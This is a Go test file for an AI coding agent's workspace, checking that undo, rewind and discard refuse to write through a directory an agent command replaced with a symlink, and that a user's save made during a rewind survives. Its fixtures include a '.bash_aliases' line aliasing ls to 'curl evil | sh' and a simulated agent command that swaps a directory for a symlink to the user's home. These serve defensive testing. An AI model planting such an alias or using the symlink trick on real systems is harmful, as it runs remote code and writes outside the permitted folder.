package workspace

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/loom-lsp/loom-lsp/config"
	"github.com/loom-lsp/loom-lsp/fsm"
)

// outsideDir is a directory outside the folder standing for the user's
// home: nothing loom does may write there.
func outsideDir(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, ".bashrc"), []byte("the user's\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

// assertUntouched fails when outside holds anything but its .bashrc.
func assertUntouched(t *testing.T, outside string) {
	t.Helper()
	entries, _ := os.ReadDir(outside)
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	if !slices.Equal(names, []string{".bashrc"}) {
		t.Fatalf("loom wrote outside the folder: %v", names)
	}
	if b, _ := os.ReadFile(filepath.Join(outside, ".bashrc")); string(b) != "the user's\n" {
		t.Fatalf(".bashrc outside = %q", b)
	}
}

// linkDir replaces the folder's directory rel with a link to target, as
// a command of the agent can (rm -rf d && ln -s ~ d).
func linkDir(t *testing.T, dir, rel, target string) {
	t.Helper()
	if err := os.RemoveAll(filepath.Join(dir, rel)); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, filepath.Join(dir, rel)); err != nil {
		t.Fatal(err)
	}
}

// loom.discard of a command's deletion, after the command replaced the
// file's directory with a link to the user's home: the restore would
// write the repository's file there (~/.bash_aliases). It is refused,
// naming the link, and nothing is written outside.
func TestDiscardThroughALinkedDirectoryWritesNothingOutside(t *testing.T) {
	outside := outsideDir(t)
	dir := gitRepo(t, map[string]string{"d/.bash_aliases": "alias ls='curl evil | sh'\n", "a.txt": "a\n"})
	model := turnsModel([][]fsm.ToolCall{{call("b", "bash", `{"command":"rm -rf d && ln -s '`+outside+`' d"}`)}})
	h := newTestHost(t, model, func(c *config.Config) { c.Tools.Bash = config.PolicyAllow })
	s, err := h.AddFolder(dir)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Ask(context.Background(), "go"); err != nil {
		t.Fatal(err)
	}
	h.editor.turnEnded(t, 1)
	changes := changesOf(t, h, 1)
	if !slices.Contains(rels(changes), "d/.bash_aliases") {
		t.Fatalf("reported %q", rels(changes))
	}
	if st, err := os.Lstat(filepath.Join(dir, "d")); err != nil || st.Mode()&os.ModeSymlink == 0 {
		t.Fatalf("the command did not leave a link: %v", err)
	}
	_, err = s.Changes().DiscardCommandChanges(context.Background(), []string{"d/.bash_aliases"})
	if err == nil || !strings.Contains(err.Error(), "symbolic link") || !strings.Contains(err.Error(), "d") {
		t.Fatalf("discard through a link: %v", err)
	}
	assertUntouched(t, outside)
}

// Undo and rewind of a kept command change that deleted a file, after a
// command replaced the file's directory with a link to outside: the
// restore is refused (undo) or left and named (rewind), and nothing is
// written outside.
func TestUndoAndRewindOfADeletionThroughALinkedDirectory(t *testing.T) {
	for _, verb := range []string{"undo", "rewind", "undoFile"} {
		t.Run(verb, func(t *testing.T) {
			outside := outsideDir(t)
			dir := gitRepo(t, map[string]string{"d/.bash_aliases": "alias ls='curl evil | sh'\n", "a.txt": "a\n"})
			model := turnsModel([][]fsm.ToolCall{{call("b", "bash", `{"command":"rm d/.bash_aliases"}`)}})
			h := newTestHost(t, model, func(c *config.Config) { c.Tools.Bash = config.PolicyAllow })
			s, err := h.AddFolder(dir)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := s.Ask(context.Background(), "go"); err != nil {
				t.Fatal(err)
			}
			h.editor.turnEnded(t, 1)
			changesOf(t, h, 1)
			if _, err := s.Changes().KeepCommandChanges(context.Background(), []string{"d/.bash_aliases"}); err != nil {
				t.Fatal(err)
			}
			linkDir(t, dir, "d", outside)
			switch verb {
			case "undo":
				_, err = s.Changes().Undo(context.Background(), "")
				if !errors.Is(err, ErrUndoRefused) || !strings.Contains(err.Error(), "d/.bash_aliases") {
					t.Fatalf("undo: %v", err)
				}
			case "undoFile":
				_, err = s.Changes().UndoFile(context.Background(), "d/.bash_aliases", nil)
				if !errors.Is(err, ErrUndoRefused) || !strings.Contains(err.Error(), "d/.bash_aliases") {
					t.Fatalf("undoFile: %v", err)
				}
			case "rewind":
				res, err := s.Changes().Rewind(context.Background(), 1, fsm.RestoreFiles)
				if err != nil {
					t.Fatal(err)
				}
				if !slices.Contains(res.Conflicts, "d/.bash_aliases") || !strings.Contains(res.LeftWords(), "symbolic link") {
					t.Fatalf("rewind: %+v", res)
				}
			}
			assertUntouched(t, outside)
		})
	}
}

// gitSavingAt puts a git wrapper first on PATH that, the first time loom
// runs `git <sub>`, writes text into path, as the user's editor saving a
// file while the rewind runs its git processes; it returns a function
// telling whether it did.
func gitSavingAt(t *testing.T, sub, path, text string) func() bool {
	t.Helper()
	real, err := exec.LookPath("git")
	if err != nil {
		t.Fatal(err)
	}
	bin := t.TempDir()
	mark := filepath.Join(bin, "saved")
	script := fmt.Sprintf(`#!/bin/sh
for a in "$@"; do
  if [ "$a" = %q ] && [ ! -e %q ]; then
    printf '%%s' %q > %q && : > %q
  fi
done
exec %q "$@"
`, sub, mark, text, path, mark, real)
	if err := os.WriteFile(filepath.Join(bin, "git"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	return func() bool { _, err := os.Stat(mark); return err == nil }
}

// A rewind of a 12-file turn during which the user saves one of the
// files (after the rewind read it, while git makes the revert commit):
// the save survives, the file is named, the eleven others are rewound.
func TestSaveDuringARewindOf12Files(t *testing.T) {
	files := map[string]string{}
	var reads, edits []fsm.ToolCall
	for i := range 12 {
		name := fmt.Sprintf("f%02d.txt", i)
		files[name] = "line of " + name + "\n"
		reads = append(reads, call("r"+name, "read_file", `{"path":"`+name+`"}`))
		edits = append(edits, edit("e"+name, name, "line of", "AGENT's line of"))
	}
	dir := gitRepo(t, files)
	h := newTestHost(t, turnsModel([][]fsm.ToolCall{reads, edits}), nil)
	s, err := h.AddFolder(dir)
	if err != nil {
		t.Fatal(err)
	}
	ask(t, h, s, "edit them all")
	saved := filepath.Join(dir, "f07.txt")
	const save = "the user's save during the rewind"
	didSave := gitSavingAt(t, "commit-tree", saved, save)
	res, err := s.Changes().Rewind(context.Background(), 1, fsm.RestoreFiles)
	if err != nil {
		t.Fatal(err)
	}
	if !didSave() {
		t.Fatal("the save was not made during the rewind")
	}
	if got, _ := os.ReadFile(saved); string(got) != save {
		t.Fatalf("the user's save was overwritten: f07.txt = %q", got)
	}
	if !slices.Contains(res.Conflicts, "f07.txt") || !strings.Contains(res.LeftWords(), "f07.txt changed on disk while it was being restored") {
		t.Fatalf("f07.txt not named: %+v", res)
	}
	if len(res.Restored) != 11 || slices.Contains(res.Restored, "f07.txt") {
		t.Fatalf("restored %v", res.Restored)
	}
	for name, want := range files {
		if name == "f07.txt" {
			continue
		}
		if got, _ := os.ReadFile(filepath.Join(dir, name)); string(got) != want {
			t.Fatalf("%s = %q, want %q", name, got, want)
		}
	}
	// The restored version is reachable: it is in the rewind's commit.
	if got := runGit(t, dir, "show", "HEAD:f07.txt"); got != files["f07.txt"] {
		t.Fatalf("HEAD's f07.txt = %q", got)
	}
}
